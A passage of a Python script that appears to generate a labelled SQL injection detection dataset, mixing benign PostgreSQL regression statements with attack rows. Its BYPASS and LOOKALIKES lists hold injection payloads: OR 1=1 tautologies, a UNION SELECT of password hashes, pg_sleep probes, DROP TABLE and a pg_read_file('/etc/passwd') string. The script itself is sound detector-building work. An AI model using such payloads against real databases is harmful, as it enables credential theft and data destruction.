    ("window", "CREATE OR REPLACE TEMP VIEW v_window AS\n\tSELECT i, sum(i) over (order by i groups between 1 preceding and 1 following) as sum_rows FROM generate_series(1, 10) i"),
    ("window", "CREATE TEMP VIEW v_window AS\n\tSELECT i, min(i) over (order by i range between '1 day' preceding and '10 days' following) as min_i\n  FROM generate_series(now(), now()+'100 days'::interval, '1 hour') i"),
    ("window", "SELECT sum(unique1) over (order by four desc range between 2::int8 preceding and 1::int2 preceding),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10"),
    ("window", "select sum(salary) over (order by enroll_date desc range between '1 year'::interval following and '1 year'::interval following),\n\tsalary, enroll_date from empsalary"),
    ("window", "select last_value(salary) over(order by salary range between 1000 preceding and 1000 following),\n\tlag(salary) over(order by salary range between 1000 preceding and 1000 following),\n\tsalary from empsalary"),
    ("rangetypes", "-- Tests for range data types.\n\ncreate type textrange as range (subtype=text, collation=\"C\")"),
    ("rangetypes", "select ' ( \" a \" \" a \", \" z \" \" z \" )  '::textrange"),
    ("rangetypes", "select '(!,[)'::textrange"),
    ("rangetypes", "-- these are allowed but normalize to empty:\nselect '[a,a)'::textrange"),
    ("rangetypes", "INSERT INTO numrange_test VALUES(numrange(1.7, 1.7, '[]'))"),
    ("rangetypes", "SELECT nr, lower_inc(nr), lower_inf(nr), upper_inc(nr), upper_inf(nr) FROM numrange_test"),
    ("rangetypes", "SELECT * FROM numrange_test WHERE range_contained_by(numrange(-1e7,-10000.1), nr)"),
    ("rangetypes", "select * from numrange_test where nr < numrange(1000.0, 1001.0,'[]')"),
    ("rangetypes", "select numrange(2.0, 3.0, '[]') -|- numrange(3.0, 4.0, '()')"),
    ("rangetypes", "select range_minus(numrange(10.1,12.2,'[]'), numrange(110.0,120.2,'(]'))"),
    ("rangetypes", "select numrange(3.0, 70.0) &< numrange(6.6, 100.0)"),
    ("rangetypes", "select * from numrange_test natural join numrange_test2 order by nr"),
    ("rangetypes", "-- test canonical form for daterange\nselect daterange('2000-01-10'::date, '2000-01-20'::date, '[]')"),
    ("rangetypes", "insert into test_range_gist select int4range(NULL,g*10,'(]') from generate_series(1,100) g"),
    ("rangetypes", "select count(*) from test_range_gist where ir -|- int4range(100,500)"),
    ("rangetypes", "create table test_range_excl(\n  room int4range,\n  speaker int4range,\n  during tsrange,\n  exclude using gist (room with =, during with &&),\n  exclude using gist (speaker with =, during with &&)\n)"),
    ("rangetypes", "insert into test_range_excl\n  values(int4range(124, 124, '[]'), int4range(3, 3, '[]'), '[2010-01-02 10:10, 2010-01-02 11:10)')"),
    ("rangetypes", "-- test bigint ranges\nselect int8range(10000000000::int8, 20000000000::int8,'(]')"),
    ("rangetypes", "select '[123.001, 5.e9)'::float8range @> 888.882::float8"),
    ("rangetypes", "create domain restrictedrange as int4range check (upper(value) < 10)"),
    ("rangetypes", "create function anyarray_anyrange_func(a anyarray, r anyrange)\n  returns anyelement as 'select $1[1] + lower($2);' language sql"),
    ("rangetypes", "create function rangetypes_sql(q anyrange, b anyarray, out c anyelement)\n  as $$ select upper($1) + $2[1] $$\n  language sql"),
    ("rangetypes", "--\n-- Ranges of arrays\n--\n\ncreate type arrayrange as range (subtype=int4[])"),
    ("rangetypes", "select array[1,3] <@ arrayrange(array[1,2], array[2,1])"),
    ("rangetypes", "select '(2,5)'::cashrange except select '(5,6)'::cashrange"),
    ("rangetypes", "create function table_succeed(i anyelement, r anyrange) returns table(i anyelement, r anyrange)\n  as $$ select $1, $2 $$ language sql"),
    ("returning", "INSERT INTO foo (f2,f3)\n  VALUES ('test', DEFAULT), ('More', 11), (upper('more'), 7+9)\n  RETURNING *, f1+f3 AS sum"),
    ("returning", "UPDATE foo SET f2 = lower(f2), f3 = DEFAULT RETURNING foo.*, f1+f3 AS sum13"),
    ("returning", "DELETE FROM foo WHERE f1 > 2 RETURNING f3, f2, f1, least(f1,f3)"),
    ("returning", "-- Subplans and initplans in the RETURNING list\n\nINSERT INTO foo SELECT f1+10, f2, f3+99 FROM foo\n  RETURNING *, f1+112 IN (SELECT q1 FROM int8_tbl) AS subplan,\n    EXISTS(SELECT * FROM int4_tbl) AS initplan"),
    ("returning", "-- Joins\n\nUPDATE foo SET f3 = f3*2\n  FROM int4_tbl i\n  WHERE foo.f1 + 123455 = i.f1\n  RETURNING foo.*, i.f1 as \"i.f1\""),
    ("returning", "DELETE FROM foo\n  USING int8_tbl i\n  WHERE foo.f1 = i.q2\n  RETURNING *"),
    ("returning", "-- Rules and views\n\nCREATE TEMP VIEW voo AS SELECT f1, f2 FROM foo"),
    ("returning", "CREATE OR REPLACE RULE voo_u AS ON UPDATE TO voo DO INSTEAD\n  UPDATE foo SET f1 = new.f1, f2 = new.f2 WHERE f1 = old.f1\n  RETURNING f1, f2"),
    ("returning", "update voo set f1 = f1 + 1 where f2 = 'zoo2' RETURNING *, f1*2"),
    ("returning", "CREATE RULE joinview_u AS ON UPDATE TO joinview DO INSTEAD\n  UPDATE foo SET f1 = new.f1, f3 = new.f3\n    FROM joinme WHERE f2 = f2j AND f2 = old.f2\n    RETURNING foo.*, other"),
    ("returning", "-- Check aliased target relation\nINSERT INTO foo AS bar DEFAULT VALUES RETURNING *"),
    ("tstypes", "--Base tsvector test\n\nSELECT '1'::tsvector"),
    ("tstypes", "SELECT E'''1 \\\\''2'' 3'::tsvector"),
    ("tstypes", "SELECT 'a:3A b:2a'::tsvector || 'ba:1234 a:1B'"),
    ("tstypes", "SELECT '!(!1|2)'::tsquery"),
    ("tstypes", "SELECT '1&(2&(4&(5|!6)))'::tsquery"),
    ("tstypes", "SELECT 'a:* & nbb:*ac | doo:a* | goo'::tsquery"),
    ("tstypes", "-- phrase transformation\nSELECT 'a <-> (b|c)'::tsquery"),
    ("tstypes", "SELECT  '!(a|b) <-> c'::tsquery"),
    ("tstypes", "--comparisons\nSELECT 'a' < 'b & c'::tsquery as \"true\""),
    ("tstypes", "SELECT numnode( 'new & york | qwery'::tsquery )"),
    ("tstypes", "SELECT 'foo & bar'::tsquery || !!'asd & fg'::tsquery"),
    ("tstypes", "SELECT tsquery_phrase('a <3> g', 'b & d', 10)"),
    ("tstypes", "SELECT 'a b:89  ca:23A,64b d:34c'::tsvector @@ 'd:AC & c:*CB' as \"true\""),
    ("tstypes", "SELECT 'supeznova supernova'::tsvector @@ 'super:*'::tsquery AS \"true\""),
    ("tstypes", "SELECT to_tsvector('simple', '1 2 3 4') @@ '1 <2> (2 <-> 3)' AS \"true\""),
    ("tstypes", "SELECT ts_rank_cd(' a:1 sa:3C sab:2c d g'::tsvector, 'a | sa:*')"),
    ("tstypes", "SELECT ts_rank_cd(' a:1 sa:2A sb:2D g'::tsvector, 'a <-> s:* <-> sa:B')"),
    ("tstypes", "SELECT 'a:1 b:3'::tsvector @@ 'a <2> b'::tsquery AS \"true\""),
    ("tstypes", "-- tsvector editing operations\n\nSELECT strip('w:12B w:13* w:12,5,6 a:1,3* a:3 w asd:1dc asd'::tsvector)"),
    ("tstypes", "SELECT ts_delete('base:7 hidden:6 rebel:1 spaceship:2,33A,34B,35C,36D strike:3'::tsvector, ARRAY['spaceship','leya','rebel'])"),
    ("tstypes", "SELECT lexeme, positions[1] from unnest('base:7 hidden:6 rebel:1 spaceship:2,33A,34B,35C,36D strike:3'::tsvector)"),
    ("tstypes", "SELECT array_to_tsvector(ARRAY['base','hidden','rebel','spaceship', NULL])"),
    ("tstypes", "SELECT setweight('a asd w:5,6,12B,13A zxc'::tsvector, 'c', ARRAY['a', 'zxc', NULL])"),
    ("tstypes", "SELECT ts_filter('base hidden rebel spaceship strike'::tsvector, '{a,b,NULL}')"),
    ("prepare", "-- Regression tests for prepareable statements. We query the content\n-- of the pg_prepared_statements view as prepared statements are\n-- created and removed.\n\nSELECT name, statement, parameter_types FROM pg_prepared_statements"),
    ("prepare", "PREPARE q1 AS SELECT 1 AS a"),
    ("prepare", "-- sql92 syntax\nDEALLOCATE PREPARE q1"),
    ("prepare", "-- parameterized queries\nPREPARE q2(text) AS\n\tSELECT datname, datistemplate, datallowconn\n\tFROM pg_database WHERE datname = $1"),
    ("prepare", "EXECUTE q3('AAAAxx', 5::smallint, 10.5::float, false, 500::oid, 4::bigint)"),
    ("prepare", "-- wrong param types\nEXECUTE q3(5::smallint, 10.5::float, false, 500::oid, 4::bigint, 'bytea')"),
    ("prepare", "CREATE TEMPORARY TABLE q5_prep_results AS EXECUTE q5(200, 'DTAAAA')"),
    ("prepare", "PREPARE q7(unknown) AS\n    SELECT * FROM road WHERE thepath = $1"),
    ("inet", "INSERT INTO INET_TBL (c, i) VALUES ('192.168.1', '192.168.1.226/24')"),
    ("inet", "INSERT INTO INET_TBL (c, i) VALUES ('10.1.2', '10.1.2.3/24')"),
    ("inet", "SELECT '' AS ten, c AS cidr, broadcast(c),\n  i AS inet, broadcast(i) FROM INET_TBL"),
    ("inet", "SELECT '' AS four, c AS cidr, masklen(c) AS \"masklen(cidr)\",\n  i AS inet, masklen(i) AS \"masklen(inet)\" FROM INET_TBL\n  WHERE masklen(c) <= 8"),
    ("inet", "SELECT '' AS ten, i, c,\n  i < c AS lt, i <= c AS le, i = c AS eq, \n  i >= c AS ge, i > c AS gt, i <> c AS ne,\n  i << c AS sb, i <<= c AS sbe,\n  i >> c AS sup, i >>= c AS spe\n  FROM INET_TBL"),
    ("groupingsets", "create temp view gstest1(a,b,v)\n  as values (1,1,10),(1,1,11),(1,2,12),(1,2,13),(1,3,14),\n            (2,3,15),\n            (3,3,16),(3,4,17),\n            (4,1,18),(4,1,19)"),
    ("groupingsets", "insert into gstest4\nvalues (1,1,b'0000','1'), (2,2,b'0001','1'),\n       (3,4,b'0010','2'), (4,8,b'0011','2'),\n       (5,16,b'0000','2'), (6,32,b'0001','2'),\n       (7,64,b'0010','1'), (8,128,b'0011','1')"),
    ("groupingsets", "create function gstest_data(v integer, out a integer, out b integer)\n  returns setof record\n  as $f$\n    begin\n      return query select v, i from generate_series(1,3) i;\n    end;\n  $f$ language plpgsql"),
    ("groupingsets", "select a, b, grouping(a,b), sum(v), count(*), max(v)\n  from gstest1 group by rollup (a,b) order by coalesce(a,0)+coalesce(b,0)"),
    ("groupingsets", "-- test usage of grouped columns in direct args of aggs\nselect grouping(a), a, array_agg(b),\n       rank(a) within group (order by b nulls first),\n       rank(a) within group (order by b nulls last)\n  from (values (1,1),(1,4),(1,5),(3,1),(3,2)) v(a,b)\n group by rollup (a) order by a"),
    ("groupingsets", "select sum(c) from gstest2\n  group by grouping sets(grouping sets(rollup(c), grouping sets(cube(c))))\n  order by 1 desc"),
    ("groupingsets", "select a, b, sum(v), count(*) from gstest_empty group by grouping sets ((a,b),(),(),())"),
    ("groupingsets", "-- check that functionally dependent cols are not nulled\nselect a, d, grouping(a,b,c)\n  from gstest3\n group by grouping sets ((a,b), (a,c))"),
    ("groupingsets", "-- min max optimization should still work with GROUP BY ()\nexplain (costs off)\n  select min(unique1) from tenk1 GROUP BY ()"),
    ("groupingsets", "select(select (select grouping(c) from (values (1)) v2(c) GROUP BY c) from (values (1,2)) v1(a,b) group by (a,b)) from (values(6,7)) v3(e,f) GROUP BY ROLLUP(e,f)"),
    ("groupingsets", "-- HAVING queries\nselect ten, sum(distinct four) from onek a\ngroup by grouping sets((ten,four),(ten))\nhaving exists (select 1 from onek b where sum(distinct a.four) = b.four)"),
    ("groupingsets", "select v.c, (select count(*) from gstest2 group by () having v.c)\n  from (values (false),(true)) v(c) order by v.c"),
    ("groupingsets", "-- FILTER queries\nselect ten, sum(distinct four) filter (where four::text ~ '123') from onek a\ngroup by rollup(ten)"),
    ("groupingsets", "select array(select row(v.a,s1.*) from (select two,four, count(*) from onek group by cube(two,four) order by two,four) s1) from (values (1),(2)) v(a)"),
    ("groupingsets", "set work_mem = '384kB'"),
]


# comment lines the regression files put before a statement, by file
REGRESS_COMMENTS = {
    "inet": ["-- check that CIDR rejects invalid input:", "-- now test some support functions", "-- test the operators", "--\n-- INET\n--"],
    "rangetypes": ["-- should succeed", "-- negative tests; should fail", "-- test canonical form for int4range", "-- now check same queries using index"],
    "tstypes": ["--Base tsquery test", "-- phrase transformation", "--ranking", "-- tsvector editing operations"],
    "arrays": ["-- operators", "-- functions", "-- scalar op any/all (array)", "-- nulls", "--\n-- test array extension\n--"],
    "window": ["-- test non-default frame specifications", "-- cumulative aggregate", "-- RANGE offset PRECEDING/FOLLOWING tests", "-- empty window specification"],
    "strings": ["-- test case insensitive", "-- E061-04 like predicate", "--\n-- test replace\n--", "-- unused escape character"],
    "insert_conflict": ["-- inference succeeds:", "-- inference fails:", "-- Succeeds", "-- fails"]}


def regress_rows(r):
    """The fixed statements, and more in the same files' manner with other values (about a third with the
    comment lines such a statement has before it in its file)."""
    out, add0 = regress_list("regress21", REGRESS_FIXED)

    def add(f, stmt):
        if r.random() < 0.33:
            stmt = r.choice(REGRESS_COMMENTS[f]) + r.choice(["\n", "\n\n"]) + stmt
        add0(f, stmt)
    for _ in range(25):
        a, b = r.randint(0, 255), r.randint(0, 255)
        n = r.choice([8, 16, 24, 32])
        add("inet", r.choice(["INSERT INTO INET_TBL (c, i) VALUES ('10.%d.%d.0/%d', '10.%d.%d.%d/%d')" % (a, b, n, a, b, r.randint(1, 254), n),
                              "SELECT '%d.%d.0.0/16'::cidr >>= '%d.%d.1.1'::inet" % (a, b, a, b), "SELECT host('%d.%d.%d.%d/%d'::inet)" % (a, b, a, b, n),
                              "SELECT set_masklen('%d.%d.0.0/16'::inet, %d)" % (a, b, n), "SELECT inet '%d.%d.1.1' - 1" % (a, b), "SELECT abbrev(cidr '10.%d.0.0/%d')" % (a, n),
                              "SELECT inet_same_family('%d.%d.0.1', '::1')" % (a, b), "SELECT ~ inet '%d.%d.0.1'" % (a, b)]))
    for _ in range(25):
        a, b = sorted(r.sample(range(-50, 200), 2))
        add("rangetypes", r.choice(["select int4range(%d, %d, '[]')" % (a, b), "select numrange(%d.5, %d.25) && numrange(%d, %d)" % (a, b, b - 3, b + 3),
                                    "select int4range(%d, %d) * int4range(%d, %d)" % (a, b, a + 2, b + 9), "select upper(int8range(%d, %d))" % (a, b),
                                    "select isempty(numrange(%d, %d, '()'))" % (a, a + 1), "select daterange('2000-01-%02d'::date, '2000-02-%02d'::date, '(]')" % (r.randint(1, 28), r.randint(1, 28)),
                                    "select count(*) from test_range_gist where ir << int4range(%d,%d)" % (a, b), "select %d <@ int4range(%d, %d)" % (r.randint(a, b), a, b)]))
    for _ in range(25):
        w1, w2, w3 = rword(r, r.randint(2, 6)), rword(r, r.randint(2, 6)), rword(r, r.randint(1, 4))
        add("tstypes", r.choice(["SELECT '%s:%d %s:%dB'::tsvector" % (w1, r.randint(1, 90), w2, r.randint(1, 90)), "SELECT '%s & !%s'::tsquery" % (w1, w2),
                                 "SELECT '%s <-> (%s|%s)'::tsquery" % (w1, w2, w3), "SELECT '%s %s'::tsvector @@ '%s:*'::tsquery AS \"true\"" % (w1, w2, w1[:2]),
                                 "SELECT ts_rank(' %s:1 %s:2C d g'::tsvector, '%s | %s')" % (w1, w2, w1, w2), "SELECT numnode('%s & %s | %s'::tsquery)" % (w1, w2, w3),
                                 "SELECT strip('%s:12B %s:3A'::tsvector)" % (w1, w2), "SELECT to_tsvector('simple', '%s %s %s') @@ '%s <2> %s'" % (w1, w2, w3, w1, w3)]))
    for _ in range(25):
        a, b, c = r.randint(1, 99), r.randint(1, 99), r.randint(1, 9)
        add("arrays", r.choice(["SELECT ARRAY[%d,%d] || %d AS \"{%d,%d,%d}\"" % (a, b, c, a, b, c), "select %d = any ('{%d,%d,%d}')" % (a, b, a, c),
                                "select array_remove(array[%d,%d,%d,%d], %d)" % (a, b, b, c, b), "select array_fill(%d, array[%d,%d])" % (a, c, c),
                                "select string_to_array('%d|%d|%d', '|')" % (a, b, c), "SELECT * FROM array_op_test WHERE i @> '{%d}' ORDER BY seqno" % a,
                                "select array_length(array[[%d,%d],[%d,%d]], %d)" % (a, b, c, a, c % 3), "select cardinality('{{%d,%d},{%d,%d}}'::int[])" % (a, b, c, a),
                                "update arrtest1 set i[%d] = %d, t[%d] = '%s'" % (c, a, c, rword(r, 5))]))
    for _ in range(25):
        a, b = r.randint(1, 6), r.randint(1, 6)
        add("window", r.choice(["SELECT sum(unique1) over (rows between %d preceding and %d following),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10" % (a, b),
                                "SELECT ntile(%d) OVER (ORDER BY ten, four), ten, four FROM tenk1 WHERE unique2 < 10" % a,
                                "SELECT lag(ten, %d) OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10" % a,
                                "SELECT nth_value(unique1, %d) over (ORDER BY four rows between current row and %d following),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10" % (a, b),
                                "SELECT sum(unique1) over (order by four range between %d::int8 preceding and %d::int2 following),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10" % (a, b),
                                "SELECT row_number() OVER (ORDER BY unique2) FROM tenk1 WHERE unique2 < %d" % (a * 5)]))
    for _ in range(20):
        w = rword(r, r.randint(3, 8))
        a = r.randint(1, 9)
        add("strings", r.choice(["SELECT '%s' LIKE '%s%%' AS \"true\"" % (w, w[0]), "SELECT '%s' NOT ILIKE '%s%%' AS \"false\"" % (w, w[0].upper()),
                                 "SELECT replace('%s', '%s', '%d') AS \"%s\"" % (w, w[1], a, w.replace(w[1], str(a))), "SELECT lpad('%s', %d, 'xy')" % (w[:2], a + 2),
                                 "SELECT OVERLAY('%s' PLACING '%d' FROM %d) AS \"x\"" % (w, a, r.randint(1, 3)), "select split_part('%s@%s','@',%d)" % (w, w[::-1], r.randint(1, 3)),
                                 "SELECT strpos('%s', '%s') AS \"pos\"" % (w, w[-2:]), "SELECT regexp_replace('%s', '%s', 'Z', 'g')" % (w, w[0])]))
    for _ in range(15):
        a, b = r.randint(1, 40), r.randint(1, 40)
        add("insert_conflict", r.choice(["insert into insertconflicttest values (%d, '%s') on conflict (key) do update set fruit = excluded.fruit" % (a, rword(r, 6).capitalize()),
                                         "insert into insertconflicttest values (%d, '%s') on conflict do nothing" % (a, rword(r, 5).capitalize()),
                                         "insert into insertconflict values (%d, %d)\non conflict (coalesce(a, 0)) do nothing" % (a, b)]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "dollar_quote", "sqlmap", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "token": "input_formatted", "email": "input_url_email",
               "json": "input_json_text", "jkey": "input_plain"}
TRUNC_STYLES = [("dashdash", "--"), ("dashdash", "--"), ("dashdash_space", "-- "), ("dashdash_space", "-- "), ("dashdash_dash", "-- -"), ("dashdash_plus", "--+"),
                ("block_open", "/*"), ("semicolon_dashdash", ";--"), ("semicolon_space_dashdash", "; --"), ("dashdash_word", None),
                ("block_then_dashdash", "/**/--"), ("dashdash_word", None), ("dashdash_dash", "-- -"), ("hash_mysql", "#")]
BYPASS = [("addslashes_into_standard_string", "t21_lobasic_guide_login", "a", "grey_lady' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t21_pgtcl_restoration_note", "b", "\\', stage = 'complete' -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t21_crystal_repair_ticket", "a", "x' UNION SELECT login, pin_hash, NULL, NULL FROM tram_volunteers -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t21_matlab_rider_plate", "a", "BX-1' AND pg_sleep(5) IS NOT NULL -- ", addslashes),
          ("backslash_quote_into_standard_string", "t21_nim_customer_email", "a", "x') OR ('a'='a", backslash_quotes),
          ("doubling_into_e_string", "t21_windmill_cert_note", "a", "\\'; DROP TABLE gem_certificates; -- ", double_quotes)]
# attack-looking strings PostgreSQL does not read as quotes or escapes where they land (they stay data)
LOOKALIKES = [("admin\u02b9 OR 1=1 --", "lookalike:modifier_prime"), ("x\u2032; DROP TABLE heritage_trams; --", "lookalike:prime"), ("%27%20OR%201%3D1--", "lookalike:url_encoded_quote"),
              ("&#39; UNION SELECT pin_hash FROM tram_volunteers --", "lookalike:html_decimal_entity"), ("\ua78c OR \ua78ca\ua78c=\ua78ca", "lookalike:saltillo"),
              ("\\u0027 OR pg_sleep(5) IS NULL --", "lookalike:unicode_escape_text"), ("\uff02; SELECT pg_read_file('/etc/passwd'); --", "lookalike:fullwidth_quote"),
              ("`; DROP TABLE judoka; --", "lookalike:backtick")]


def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 5))


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "x", "1", "guest"], "spaces": ["", " ", " ", "", "  "]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 99999)), str(r.randint(1, 100)), "%d.%02d" % (r.randint(0, 900), r.randint(0, 99)), str(r.randint(10 ** 5, 10 ** 8)),
                     "0", "-%d" % r.randint(1, 99), "%d.0" % r.randint(1, 50), "%de%d" % (r.randint(1, 9), r.randint(1, 3)), "0.%02d" % r.randint(1, 99), "%d.5" % r.randint(1, 9)])


STRICT_NUMBERS = ("t21_gleam_promotion_insert", "t21_budibase_race_entry", "t21_pgtcl_ride_log", "t21_crystal_nib_grind", "t21_cobol_launch_insert", "t21_plpy_plate_text",
                  "t21_abap_training_delete", "t21_dpq2_player_stats", "t21_plperl_rush_jobs")


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or tpl[0] in STRICT_NUMBERS
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["TRAM-%04d" % r.randint(1, 9999), "LINE %d" % r.randint(1, 12), "%d.%d mm" % (r.randint(0, 2), r.choice([3, 5, 6, 8])),
                     "%d.%02d ct" % (r.randint(0, 12), r.randint(0, 99)), "%d:%02d.%03d" % (r.randint(0, 1), r.randint(0, 59), r.randint(0, 999)),
                     "%s %d" % (r.choice(["kyu", "dan"]), r.randint(1, 6)), "HW %02d:%02d" % (r.randint(0, 23), r.randint(0, 59)), "ENG-%05d" % r.randint(1, 99999),
                     "BX-%03d" % r.randint(1, 999)])


def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.4:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " ,"], 99999, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    for row in corpus.rows:
        # dev.jsonl tags a UNION request that only detects the column count as :payload
        row["variant"] = row["variant"].replace(":detection", ":payload")
    corpus.payloads += LOOKALIKES * 12
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f21-%06d", "twentyfirst")
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "twentyfirst.jsonl.gz")
    used = {row["template"] for row in corpus.rows if row["template"].startswith("t21_")}
    print("templates: %d application templates (%d with rows), %d complex generators, %d regression files" % (
        len(T), len(used), len({row["template"] for row in corpus.rows if row["template"].startswith("cx21_")}),
        len({row["template"] for row in corpus.rows if row["template"].startswith("regress21:")})))
    with open(out, "rb") as fh:
        print("sha256", hashlib.sha256(fh.read()).hexdigest(), out)


if __name__ == "__main__":
    main()
